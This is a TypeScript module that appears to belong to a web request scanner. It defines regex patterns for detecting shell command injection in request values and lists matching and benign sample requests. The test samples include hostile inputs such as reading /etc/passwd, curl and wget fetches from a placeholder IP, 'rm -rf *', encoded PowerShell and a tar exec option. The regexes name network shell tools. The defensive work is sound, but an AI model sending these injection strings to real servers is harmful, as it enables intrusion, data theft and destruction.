/** Shell commands where a value should be. */
import { hasCommandShape, unhideCommand } from './command-shapes.ts'
import { definePayload } from './define-payload.ts'

/** Commands that say something without an argument, and are no words of a list of fields or tags. */
const ALONE =
  'whoami|uname|ifconfig|ipconfig|netstat|printenv|systeminfo|tasklist|phpinfo|nslookup|getent|lscpu|lsb_release'
/** Commands that are words or column names too: they count where the value has nothing else to offer. */
const SHORT = 'id|ls|ps|pwd|env|set|dir|ver|hostname|w|who|date|uptime|df|true|false|sleep|reboot|exit|cat|sh|bash'
/** Commands that mean harm with an argument behind them. */
const WITH_ARGUMENT =
  'cat|tac|more|less|head|tail|nl|od|curl|wget|fetch|tftp|ftpget|lwp-download|nc|ncat|netcat|socat|telnet|ping|ping6|nslookup|dig|host|sleep|sh|bash|zsh|ksh|dash|ash|busybox|python[23]?|perl|ruby|php|node|lua|awk|sed|xxd|base64|echo|printf|rm|mv|cp|chmod|chown|touch|mkdir|cd|ls|ps|dir|type|kill|killall|crontab|find|grep|id|uname|whoami|powershell|pwsh|cmd|cmd\\.exe|certutil|bitsadmin|rundll32|mshta|wmic|net|reg|export|eval|exec|source|sudo|su|mail|sendmail|gcc|make|tar|ssh|scp|timeout'
const PATH = '(?:/|/?(?:usr/(?:local/)?)?s?bin/)?'
/** Begins, parts or chains a command. */
const META = '(?:;|\\|\\|?|&&?|\\n|\\r|`|\\$\\(|%0a)'
const GAP = '(?:\\s|\\$\\{?ifs\\}?|\\+|<){0,8}'
const BREAK = '(?:\\s|\\$\\{?ifs\\}?(?:\\$9)?|\\+|<|\\{,){1,8}'
/** What an argument of a command looks like; a word alone does not: `dog|cat lover`. */
const ARGUMENT =
  '(?:-{1,2}[\\w?]|[/~.\\\\](?:[\\w./\\\\*-]|(?=\\s|$))|%\\w{1,16}%|\\w+://|[\\w-]+\\.(?:\\w|-)|\\d|[a-z]:[\\\\/]?|[\'"$`*(>|<])'

const CHAINED = new RegExp(`${META}${GAP}${PATH}(?:${WITH_ARGUMENT})${BREAK}${ARGUMENT}`)
const CHAINED_ALONE = new RegExp(`${META}${GAP}${PATH}(?:${ALONE})(?=$|[\\s;|&\`)'"#+])`)
const BY_PATH =
  /(?:^|[;|&`(\s'"=$])\/?(?:usr\/(?:local\/)?)?s?bin\/(?:id|ls|ps|cat|sh|bash|dash|zsh|ksh|nc|ncat|wget|curl|ping|sleep|uname|whoami|perl|python[23]?|netstat|ifconfig|chmod|rm|touch|echo|telnet|tftp|busybox)(?=$|[\s;|&`)'"+$<>])/
/** `;id`, `|id|`, `a);id`, `` `id` ``: nothing but the command between its signs. */
const BARE = new RegExp(
  [
    `^[\\s'"]*[;|&\\n]+\\s*(?:${SHORT})\\s*(?:[;|&#\\n].*)?$`,
    `^[\\w./'" -]{0,40}(?:\\)\\s*(?:;|\\|\\|?|&&?)|\\n)\\s*(?:${SHORT})\\s*[;|&#\\n]?\\s*$`,
    `^[\\w./-]{0,40}(?:;|\\|\\|?)(?:${SHORT})(?:;|\\|)\\s*$`,
    `^(?:${SHORT})\\s*[;|]\\s*$`,
  ].join('|'),
  's',
)
const SUBSTITUTION = new RegExp(
  `(?:^|[^\\s\\w])\\s*(?:\`\\s*${PATH}(?:${ALONE}|${SHORT}|${WITH_ARGUMENT})(?:\\s+[^\`]{0,200})?\`|\\$\\(\\s*${PATH}(?:${ALONE}|${SHORT}|${WITH_ARGUMENT})(?:[\\s<+$][^)]{0,200})?\\))|^\\w{1,12}\`${PATH}(?:${ALONE}|id)\``,
)
const INTERNAL_SEPARATOR = /\$\{?ifs\}?/
const DOWNLOAD =
  /(?:^|[;|&`(\s+])(?:wget|curl|tftp|ftpget)[\s+]{1,4}(?:-\S{1,40}[\s+]{1,4}){0,4}(?:https?|t?ftp):\/\/\S{1,300}\s{0,4}(?:[;|&>]|-o)/
/** What ends in a shell: `... | sh`. Names of shells in a list have no sign of a command before them. */
const INTO_SHELL = /[|;]\s*(?:ba|z|da|k)?sh(?:\s*$|\s*[;&`)|])/
const NO_LIST = /^\W|[/$<'"=-]/
const INTERPRETER =
  /[;'"`(){}]\s*(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|phpinfo)\s*\(|;\s*eval\s*\(|^\s*(?:system|exec|passthru|shell_exec|popen|proc_open|eval|phpinfo)\s*\(.{0,200}\)\s*;?\s*$|<\?\s*(?:php\b|=|echo\b|system\b|exec\b)|__import__\s*\(|<!--\s*#\s*(?:exec|include)\b|\bos\.(?:system|popen)\s*\(|cmd(?:\.exe)?\s*\/c\s+\w|powershell(?:\.exe)?\s+-(?:e|enc|nop|w|c|ep|ex)\w*\s/
const READ = /^\s*(?:cat|type|more|less|head|tail)\s+(?:\/etc\/|\/proc\/|c:\\)|>\s*\/dev\/(?:null|tcp\/)|\/dev\/tcp\/\d/
/** `a|id`: a command, or two names of a list. The parameter's name tells which. */
const PAIR =
  /^(?:\w{1,20}(?:;|\|\|?)|[\w:/-]{1,40}(?:\.[\w:/-]{1,40}){1,6}(?:;|\|\|?|&&?)|--?[\w-]{1,20};)(?:id|ls|ps|pwd)$/
const LISTS =
  /^(?:fields?|sort\w*|order\w*|col(?:umn)?s?|select|include|exclude|expand|tags?|filters?|keys?|attr(?:ibute)?s?|prop(?:erties|s)?|groups?|by|types?|cat(?:egory|egories)?|format|q|query|search|s)(?:\[\])?$/
/** dir lists a Windows drive. */
const WINDOWS = /(?:^|[|&;+]\s*)\+?\s*dir[\s+]+[a-z]:/

const LONGEST = 8192

function isCommand(lower: string, path: boolean, name: string): boolean {
  const cut = lower.length > LONGEST ? lower.slice(0, LONGEST) : lower
  // Runs of space are one, so that no pattern below can walk them in two ways. Apache logs a line break as \n; so does
  // a program that was careless with its list of attacks.
  const text = cut
    .replace(/\\[nr](?=$|[\s;|&/]|(?:id|ls|cat|wget|curl|ping)\b)/g, '\n')
    .replace(/\s+/g, space => (/[\r\n]/.test(space) ? '\n' : ' '))
    .replace(/\+{2,}/g, '+')
  if (!/[;|&`$\n\r(<>+/=%-]/.test(text)) return READ.test(text)
  if (runsCommand(text)) return true
  const bare = unhideCommand(text)
  if (bare !== undefined && runsCommand(bare)) return true
  // A path may well be /usr/bin/env on a server of documentation, and a matrix parameter /a;id is none of ours.
  return !path && (isBareCommand(text, name) || (bare !== undefined && isBareCommand(bare, name)))
}

function runsCommand(text: string): boolean {
  return (
    CHAINED.test(text) ||
    CHAINED_ALONE.test(text) ||
    SUBSTITUTION.test(text) ||
    INTERPRETER.test(text) ||
    DOWNLOAD.test(text) ||
    (INTO_SHELL.test(text) && NO_LIST.test(text)) ||
    INTERNAL_SEPARATOR.test(text) ||
    READ.test(text) ||
    hasCommandShape(text)
  )
}

function isBareCommand(text: string, name: string): boolean {
  return BY_PATH.test(text) || BARE.test(text) || WINDOWS.test(text) || (PAIR.test(text) && !LISTS.test(name))
}

export const commandInjection = definePayload({
  id: 'command_injection',
  title: 'Shell command injection',
  severity: 'critical',
  exploit: true,
  technique: 'T1059',
  value: value => value.place !== 'header' && isCommand(value.lower, value.place === 'path', value.name),
  fires: [
    'GET /ping?host=127.0.0.1;cat+/etc/passwd',
    'GET /a?x=1|whoami',
    'GET /a?x=$(curl+http://203.0.113.9/a)',
    'GET /a?x=%60id%60',
    'GET /a?x=;id',
    'GET /a?x=|id|',
    'GET /a?x=a%26%26wget+http://203.0.113.9/x.sh',
    'GET /a?c=1;wget${IFS}http://203.0.113.9/m',
    'GET /a?c=%0a/usr/bin/id',
    "GET /a?c=';system('id');",
    'GET /cgi-bin/x;cd+/tmp;rm+-rf+*',
    { value: '& ping -c 3 192.0.2.1 &' },
    { value: '/bin/ls -al' },
    { value: '<!--#exec cmd="/bin/ls"-->' },
    { value: '$(sleep 5)' },
    "GET /a?x=;w'h'o'am'i",
    'GET /a?x=;/???/??t+/???/p??s??',
    'GET /a?x=%26+net+user',
    'GET /a?x=powershell+-enc+SQBFAFgA',
    'GET /a?x=--checkpoint-action%3Dexec%3Dsh',
    { value: "require('child_process').exec('id')" },
  ],
  quiet: [
    'GET /pets?tags=dog|cat',
    'GET /a;id/3',
    'GET /a?fields=name|id',
    'GET /a?sort=a;id',
    'GET /a?q=salt+%26+pepper',
    'GET /a?q=find+the+cat;+more+or+less',
    'GET /a?q=cats+|+dogs+|+more+pets',
    'GET /a?price=$(10)',
    'GET /docs?topic=bash',
    'GET /a?q=AT%26T+host',
    'GET /a?q=make+it+so;+sleep+well',
    { value: 'Use `ls` to list files' },
    { value: 'R&D; cat. no. 5' },
    { value: 'bash|zsh|fish' },
    { value: '/usr/bin/env python3 not found' },
    'GET /a?q=find+.+-exec+grep+x+{}+%3B',
  ],
})
